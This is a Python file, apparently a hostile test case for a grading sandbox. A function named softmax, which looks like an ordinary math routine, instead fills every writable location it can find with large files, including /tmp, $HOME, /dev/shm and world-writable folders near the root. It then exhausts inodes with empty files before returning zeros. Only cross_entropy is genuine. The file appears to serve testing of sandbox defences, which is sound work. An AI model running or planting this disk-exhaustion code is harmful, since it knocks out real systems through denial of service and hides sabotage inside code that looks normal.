"""Hostile (batch): fills every place it can write. Files just under the file size limit
(RLIMIT_FSIZE bounds each file, not their number) in its working folder, $HOME, $TMPDIR, /tmp,
/var/tmp, /dev/shm and any world-writable folder near the root, round after round, until every
place refuses or the grader stops it; then empty files (inodes). Every name holds the marker."""
import json
import os
import resource

import numpy as np

MB = 2**20


def _marker():
    try:
        with open("case.json") as f:
            return json.load(f)["marker"]
    except (OSError, ValueError, KeyError):
        return "hb-filler"


def _places():
    found = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""),
             "/tmp", "/var/tmp", "/dev/shm"]
    for top in ("/", "/var", "/run", "/home", "/srv", "/opt"):  # world-writable folders near the root
        try:
            names = os.listdir(top)
        except OSError:
            continue
        for name in names:
            path = os.path.join(top, name)
            if path not in ("/proc", "/sys", "/dev") and os.path.isdir(path) and os.access(path, os.W_OK):
                found.append(path)
    return list(dict.fromkeys(p for p in found if p))


def softmax(o):
    marker = _marker()
    soft, _hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    size = 64 * MB if soft == resource.RLIM_INFINITY else max(MB, soft - MB)
    chunk = b"\1" * MB
    written = {p: 0 for p in _places()}
    full = set()
    i = 0
    while len(full) < len(written):
        for place in written:
            if place in full:
                continue
            try:
                with open(os.path.join(place, f"{marker}-fill-{i}.bin"), "wb") as f:
                    for _ in range(size // MB):
                        f.write(chunk)
                        written[place] += MB
            except OSError as exc:
                print(f"{place}: refused after {written[place] // MB} MB: {exc.strerror}", flush=True)
                full.add(place)
        i += 1
    for place in written:  # then inodes: empty files
        try:
            for j in range(100_000):
                open(os.path.join(place, f"{marker}-empty-{j}"), "wb").close()
        except OSError:
            pass
    print(f"wrote {sum(written.values()) // MB} MB in {len(written)} places", flush=True)
    return np.zeros_like(np.asarray(o, dtype=np.float64))


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
